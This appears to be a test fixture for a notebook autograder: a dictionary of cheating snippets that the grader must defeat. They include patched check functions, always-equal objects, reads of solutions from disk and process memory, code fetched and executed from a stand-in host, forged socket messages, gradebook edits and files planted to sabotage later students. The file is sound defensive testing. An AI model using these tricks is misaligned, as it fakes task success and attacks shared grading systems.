"""Attempts to win points without answers: none may win any, and some must be remarked on.

Each is code for the first cell of assignment 1. Every function that is asked for calls `answer`,
which the code may define; without it, zero is returned. A value of TRICKS is the code, or a pair of
the code and a phrase that the remarks or the status must hold.
"""

FLAGGED = "passed in the notebook and fails outside it"

TRICKS = {
    "errors are not shown": """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
get_ipython().showtraceback = lambda *a, **k: None
""",
    "a fake helpers.hints": (
        """
import sys, types, helpers
fake = types.ModuleType("helpers.hints")
class Hint(Exception): pass
fake.Hint, fake.call_named = Hint, lambda name, function, arguments: function(*arguments)
fake.check_answer = fake.require = fake.call = lambda *a, **k: None
sys.modules["helpers.hints"] = helpers.hints = fake
""",
        FLAGGED,
    ),
    "the checks' functions replaced": (
        """
from helpers import hints
hints.check_answer = hints.require = lambda *a, **k: None
hints._difference = lambda *a, **k: None
""",
        FLAGGED,
    ),
    "a patched run_cell": (
        """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
InteractiveShell.run_cell = lambda self, *a, **k: ExecutionResult(None)
""",
        FLAGGED,
    ),
    "the right answer from a caller's frame": """
import sys
def answer(*arguments):
    frame = sys._getframe()
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            for name in ("right", "answer_is", "expected", "wanted"):
                if name in names:
                    return names[name]
        frame = frame.f_back
""",
    "the right answer from any object": """
import gc
def answer(*arguments):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "right" in thing:
            return thing["right"]
""",
    "the solutions from the disk": """
import glob, json, os, sys
def answer(*arguments): return 0
for base in (ROOT, "/", os.getcwd(), *sys.path, os.path.expanduser("~")):
    for path in glob.glob(base + "/**/source/**/*.ipynb", recursive=True)[:50]:
        for cell in json.load(open(path))["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]) and cell["cell_type"] == "code":
                exec("".join(cell["source"]), globals())
solved = {name: globals().get(name) for name in ("count_parameters", "rnn_step", "run", "clip")}
def answer(*arguments):
    for function in solved.values():
        try:
            return function(*arguments)
        except Exception:
            pass
""",
    "an object that equals everything": """
class Yes:
    shape, dtype = (), "float64"
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __array__ = item = tolist = ravel = detach = lambda self, *a: self
def answer(*arguments): return Yes()
""",
    "a number that equals everything": """
class Yes(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __le__(self, other): return True
    __hash__ = float.__hash__
def answer(*arguments): return Yes(1)
""",
    "an array that equals everything": """
import numpy as np
class Yes(np.ndarray):
    def __array_finalize__(self, other): pass
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def tolist(self): return [Any()] * self.size
class Any(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def answer(*arguments): return np.zeros((2, 2)).view(Yes)
""",
    "the process ends with success": (
        "import os\ndef answer(*arguments): os._exit(0)\n",
        "crashed in check-count",
    ),
    "the process ends at the first cell": ("import os\nos._exit(0)\n", "crashed in solution-count"),
    "library functions replaced": """
import builtins, math, numpy as np
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.asarray = np.array = np.ascontiguousarray = lambda *a, **k: np.zeros(())
builtins.abs = math.fabs = lambda x: 0.0
math.isnan = lambda x: True
""",
    "PyTorch's functions replaced": """
import torch
torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda *a: True
torch.testing.assert_close = lambda *a, **k: None
""",
    "a new helper is left for the next student": """
import os, sys, helpers
for folder in (ROOT + "/helpers", ROOT + "/tools", *helpers.__path__, sys.prefix, *sys.path):
    try:
        open(folder + "/written_by_a_student.py", "w").write("raise SystemExit")
    except OSError:
        pass
""",
    "the memory of the other processes": """
import glob, os
def answer(*arguments): return found
found = 0
for path in [f"/proc/{os.getppid()}/mem", *glob.glob("/proc/[0-9]*/mem")]:
    try:
        maps = open(path[:-3] + "maps").read().split("\\n")
        memory = open(path, "rb")
        for line in maps[:4000]:
            if " rw" in line:
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                memory.seek(low)
                data = memory.read(min(high - low, 10**7))
                if b"BEGIN " + b"SOLUTION" in data:
                    found = data
                    open(ROOT + "/stolen", "wb").write(data)
    except (OSError, ValueError):
        pass
""",
    "answers written to the socket": (
        """
import json, os, socket
def forge(message):
    data = json.dumps(message).encode()
    for number in range(3, 64):
        try:
            os.write(number, len(data).to_bytes(8, "big") + data)
        except OSError:
            pass
for message in ({"outputs": [], "failed": False}, {"result": 77}, {"names": {}}, {"points": 20}):
    forge(message)
""",
        "nobody had asked for",
    ),
    "answers with the right mark": (
        """
import json, os, sys
def answer(*arguments):
    frame = sys._getframe()
    while frame and "request" not in frame.f_locals:
        frame = frame.f_back
    mark = frame.f_locals["request"]["id"]
    for message in ({"id": mark, "result": 77}, {"id": mark, "failed": False, "outputs": []}):
        data = json.dumps(message).encode()
        for number in range(3, 64):
            try:
                os.write(number, len(data).to_bytes(8, "big") + data)
            except OSError:
                pass
    return 0
""",
        "crashed in check-count",
    ),
    "bytes that are no message": (
        """
import os
for number in range(3, 64):
    try:
        os.write(number, b"\\xff" * 4096)
    except OSError:
        pass
""",
        "crashed in solution-count",
    ),
    "a thread that waits for the checks": (
        """
import threading, time
def wait():
    while True:
        from helpers import hints
        hints.check_answer = hints.require = hints.call = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=wait, daemon=True).start()
time.sleep(0.1)
""",
        FLAGGED,
    ),
    "output without an end": """
import os, sys
def answer(*arguments):
    while True:
        print("passed " * 1000)
""",
    "a process that goes on when the first one ends": """
import os
if os.fork():
    while True:
        os.wait()
""",
    "an object that runs code where it is unpacked": """
class Runs:
    def __reduce__(self):
        return (open, (ROOT + "/unpickled", "w"))
def answer(*arguments):
    import numpy as np
    return np.array([Runs()], dtype=object)
""",
    "a result without an end": """
def answer(*arguments):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested
""",
    "a result that contains itself": """
def answer(*arguments):
    endless = {}
    endless["again"] = endless
    return endless
""",
    "a result of a gigabyte": """
def answer(*arguments): return "x" * 10**9
""",
    "names that the checks use": """
import builtins
right = mistakes = 0
__answers__ = {"count_parameters": lambda *a: 77}
def _others(*a, **k): pass
def sorted(*a): return []
def max(*a): return 0
def isinstance(*a): return True
builtins.zip = lambda *a, **k: []
""",
    "the example's results alone": """
import numpy as np
def answer(*arguments):
    return {2: 77 if arguments[0] == 3 else 0, 5: np.array([[-0.14889, 0.33638],
        [0.89569, 0.29131]])}.get(len(arguments), 0)
""",
    "the example's results from the history": """
import re
def answer(*arguments):
    for text in get_ipython().user_ns["In"][::-1]:
        if "check_answer" in text:
            return eval(re.split(r"mistakes", text.split("),", 1)[1])[0].strip(" \\n,"))
""",
    "the solutions from the network": """
import urllib.request
def answer(*arguments): return 0
try:
    exec(urllib.request.urlopen("http://192.0.2.1/solution.py", timeout=1).read())
except OSError:
    pass
""",
    "two processes answer one question": """
import os
def answer(*arguments): return 77 if os.fork() else 0
""",
    "signals to the worker": """
import os, signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
def answer(*arguments): return 0
""",
    "the worker's own sockets": """
import ctypes, os
found = []
for number in range(3, 32):
    for path in (f"/proc/1/fd/{number}", f"/proc/{os.getppid()}/fd/{number}"):
        try:
            found.append(os.open(path, os.O_RDWR))
        except OSError:
            pass
    try:
        handle = os.pidfd_open(os.getppid())
        found.append(ctypes.CDLL(None).syscall(438, handle, number, 0))
    except OSError:
        pass
for number in found:
    if number > 0:
        os.write(number, b'{"why": "", "code": 0, "left": []}')
def answer(*arguments): return 0
""",
    "the way out through another process": """
import glob, json, os
def answer(*arguments): return solved.get("answer", 0)
solved = {}
for base in ("/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root", "/proc/self/root/.."):
    for path in glob.glob(base + ROOT + "/notebooks/assignments/source/0*/*.ipynb"):
        solved["answer"] = json.load(open(path))
""",
    "a namespace of its own": """
import ctypes, json
libc = ctypes.CDLL(None)
new_user, new_mounts = 0x10000000, 0x20000
assert libc.unshare(new_user | new_mounts) == -1 or libc.mount(None, b"/", None, 32, None) == -1
def answer(*arguments): return 0
""",
    "types that pretend": """
import collections
class Text(str):
    def __str__(self): return self
    def __eq__(self, other): return True
    __hash__ = str.__hash__
class Whole(int):
    def __eq__(self, other): return True
    def __int__(self): return self
    __hash__ = int.__hash__
class Many(dict):
    def __getitem__(self, key): return Whole(1)
    def __contains__(self, key): return True
    def items(self): return [(Text("W"), Whole(1)), (Text("b"), Many())]
class Pair(tuple):
    def __iter__(self): return iter([Whole(1), Many()])
def answer(*arguments): return (Whole(1), Text("x"), Many(a=1), Pair((1, 2)))[len(arguments) % 4]
""",
    "an array without entries and a billion rows": """
import numpy as np
def answer(*arguments): return np.zeros((10**9, 0, 10**9))
""",
    "open files sent along": """
import os, socket
def answer(*arguments):
    for number in range(3, 32):
        try:
            channel = socket.socket(fileno=os.dup(number))
            socket.send_fds(channel, [b"\\0" * 8], [0, 1, 2])
        except OSError:
            pass
    return 0
""",
    "something that waits for the next student": """
import os
home = os.path.expanduser("~/..")
for path in ("sitecustomize.py", "usercustomize.py", "numpy.py", "profile_default/startup/0.py"):
    for folder in (home, ".", home + "/.ipython", "/tmp", "/dev/shm"):
        try:
            os.makedirs(os.path.dirname(f"{folder}/{path}"), exist_ok=True)
            open(f"{folder}/{path}", "w").write("raise SystemExit")
        except OSError:
            pass
os.environ.update(PYTHONSTARTUP="sitecustomize.py", PYTHONPATH=os.getcwd(), LD_PRELOAD="x")
def answer(*arguments): return 0
""",
    "points written into the gradebook": """
import glob, os, sqlite3
for base in (ROOT, os.path.dirname(ROOT), "/tmp", "/home", "/root"):
    for path in glob.glob(base + "/**/gradebook.db", recursive=True)[:20]:
        with sqlite3.connect(path) as book:
            book.execute("update grade set manual_score = 100")
def answer(*arguments): return 0
print('{"points": 20}')
20
""",
    "sockets that no namespace holds": """
import socket
found = []
for family, address in (
    (socket.AF_UNIX, "\\0/tmp/.X11-unix/X0"), (socket.AF_UNIX, "/run/docker.sock"),
    (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET6, ("::1", 8888)),
):
    try:
        channel = socket.socket(family)
        channel.settimeout(0.2)
        channel.connect(address)
        found.append(channel)
    except OSError:
        pass
def answer(*arguments): return 77 if found else 0
""",
}
